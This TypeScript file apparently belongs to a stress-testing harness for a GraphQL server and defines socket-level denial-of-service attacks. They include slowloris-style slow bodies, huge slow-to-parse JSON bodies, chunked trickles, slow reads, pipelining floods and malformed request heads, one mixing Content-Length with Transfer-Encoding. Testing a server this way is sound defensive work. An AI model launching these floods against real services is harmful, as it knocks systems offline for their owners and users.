import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import type { Attack } from "./attacks.ts";

const KEY = "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";

/** Heads that have crashed a server, or could: targets that are not paths, upgrades to something else, and both together. */
const HEADS = [
  `GET // HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n${KEY}\r\n`,
  `GET http://[ HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n${KEY}\r\n`,
  `GET /graphql HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 99\r\n\r\n`,
  `GET /elsewhere HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n${KEY}\r\n`,
  "GET /health/live HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
  "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
  "\u0000\u0001\u0002 nonsense\r\n\r\n",
];

function open(url: string): Socket {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on("error", () => undefined);
  return socket;
}

/** Keeps several connections sending, each again as soon as it is answered or closed. */
async function again(
  url: string,
  connections: number,
  bytes: (time: number) => string | Buffer,
  over: AbortSignal,
  tell: (answer: string) => void,
): Promise<void> {
  const says = async (): Promise<void> => {
    for (let time = 0; !over.aborted; time += 1) {
      const socket = open(url);
      socket.write(bytes(time));
      const answered = await Promise.race([
        new Promise<string>((resolve) => {
          socket.once("data", (data) => resolve(String(data).slice(9, 12)));
          socket.once("close", () => resolve("closed"));
        }),
        pause(2_000, "no answer"),
      ]);
      tell(answered);
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: connections }, says));
}

/** 3.8 MB of JSON that take long to parse. */
const BODY = Buffer.from(`{"a":[${'{"":1},'.repeat(540_000)}1]}`);
const LINES = ["PUT /graphql", "POST /nowhere", "POST /health/live", "POST /graphql"];
const JSON_TYPE = "Host: x\r\nContent-Type: application/json";

/** Attacks below HTTP. */
export const byConnections = {
  "slow bodies": async ({ url, hostile }, over, tell) => {
    const sockets = new Set<Socket>();
    while (!over.aborted) {
      while (sockets.size < 150) {
        const socket = open(url);
        sockets.add(socket);
        socket.on("data", (data) => tell(String(data).slice(9, 12)));
        socket.on("close", () => sockets.delete(socket));
        socket.write(
          `POST /graphql HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${hostile.token}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n`,
        );
      }
      for (const socket of sockets) socket.write(" ");
      await pause(1_000);
    }
    tell(`${sockets.size} open at the end`);
    for (const socket of sockets) socket.destroy();
  },

  "bodies of strangers": async ({ url }, over, tell) => {
    const requests = LINES.map((line) =>
      Buffer.concat([Buffer.from(`${line} HTTP/1.1\r\n${JSON_TYPE}\r\nContent-Length: ${BODY.length}\r\n\r\n`), BODY]),
    );
    await Promise.all(requests.map((request) => again(url, 2, () => request, over, tell)));
  },

  "bodies in tiny pieces": async ({ url, hostile }, over, tell) => {
    const head = `POST /graphql HTTP/1.1\r\n${JSON_TYPE}\r\nAuthorization: Bearer ${hostile.token}\r\nTransfer-Encoding: chunked\r\n\r\n`;
    const request = Buffer.from(head + "1\r\n \r\n".repeat(200_000));
    await again(url, 4, () => request, over, tell);
  },

  "answers fetched at a trickle": async ({ url, hostile }, over, tell) => {
    const body = JSON.stringify({
      query: "{ incidents(first: 2) { nodes { card { indicators { type value submitted } } } } }",
    });
    const request = `POST /graphql HTTP/1.1\r\n${JSON_TYPE}\r\nAuthorization: Bearer ${hostile.token}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
    const fetchSlowly = async (): Promise<void> => {
      while (!over.aborted) {
        const socket = open(url);
        socket.write(request);
        const isOver = new Promise((resolve) => {
          socket.once("close", resolve);
          over.addEventListener("abort", resolve, { once: true });
        });
        socket.once("data", (data) => tell(String(data).slice(9, 12)));
        socket.on("data", () => {
          socket.pause();
          setTimeout(() => socket.resume(), 2_000).unref();
        });
        await isOver;
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: 100 }, fetchSlowly));
  },

  "requests asked far ahead": async ({ url }, over, tell) => {
    const request = Buffer.from("GET /health/live HTTP/1.1\r\nHost: x\r\n\r\n".repeat(1_400));
    await again(url, 10, () => request, over, tell);
  },

  "requests that no server answers": async ({ url }, over, tell) => {
    const request = Buffer.from("GET / HTTP/1.1\r\n\r\n".repeat(3_500));
    await again(url, 50, () => request, over, tell);
  },

  "heads that mean harm": ({ url }, over, tell) =>
    again(url, 1, (time) => HEADS[time % HEADS.length] ?? "", over, tell),
} satisfies Record<string, Attack>;
